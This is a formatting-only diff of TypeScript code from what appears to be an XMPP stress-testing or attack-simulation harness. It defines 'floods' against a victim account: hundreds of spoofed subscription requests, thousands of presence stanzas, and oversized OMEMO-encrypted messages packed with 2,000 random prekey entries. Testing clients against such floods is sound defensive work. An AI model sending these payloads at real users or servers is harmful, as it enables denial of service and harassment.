@@ -8,9 +8,10 @@ const AXOLOTL = "eu.siacs.conversations.axolotl";
 const random = (size: number): string => Buffer.from(crypto.getRandomValues(new Uint8Array(size))).toString("base64");
 
 const encrypted = (rid: number, size: number, prekey: boolean): string =>
-  `<encrypted xmlns="${AXOLOTL}"><header sid="${1 + (rid % 5)}">${
-    times(10, (at) => `<key rid="${at}"${prekey ? ' prekey="true"' : ""}>${random(size)}</key>`)
-  }<iv>${random(12)}</iv></header><payload>${random(64)}</payload></encrypted>`;
+  `<encrypted xmlns="${AXOLOTL}"><header sid="${1 + (rid % 5)}">${times(
+    10,
+    (at) => `<key rid="${at}"${prekey ? ' prekey="true"' : ""}>${random(size)}</key>`,
+  )}<iv>${random(12)}</iv></header><payload>${random(64)}</payload></encrypted>`;
 
 export const floods: Attack[] = [
   {
@@ -19,9 +20,7 @@ export const floods: Attack[] = [
     where: "component",
     send: ({ component, victim }) => {
       for (let count = 0; count < 500; count++) {
-        component(
-          `<presence from="stranger${count}@${CROWD}" to="${victim.jid}" type="subscribe"/>`,
-        );
+        component(`<presence from="stranger${count}@${CROWD}" to="${victim.jid}" type="subscribe"/>`);
       }
     },
   },
@@ -41,9 +40,7 @@ export const floods: Attack[] = [
     where: "component",
     send: ({ component, victim }) => {
       for (let count = 0; count < 5_000; count++) {
-        component(
-          `<presence from="one@${CROWD}/${count}" to="${victim.full}"/>`,
-        );
+        component(`<presence from="one@${CROWD}/${count}" to="${victim.full}"/>`);
       }
     },
   },
@@ -115,9 +112,10 @@ export const floods: Attack[] = [
     send: (scene) =>
       toVictim(
         scene,
-        `<encrypted xmlns="${AXOLOTL}"><header sid="1">${
-          times(2_000, (at) => `<key rid="${at}" prekey="true">${random(40)}</key>`)
-        }<iv>${random(12)}</iv></header></encrypted>`,
+        `<encrypted xmlns="${AXOLOTL}"><header sid="1">${times(
+          2_000,
+          (at) => `<key rid="${at}" prekey="true">${random(40)}</key>`,
+        )}<iv>${random(12)}</iv></header></encrypted>`,
       ),
   },
   {
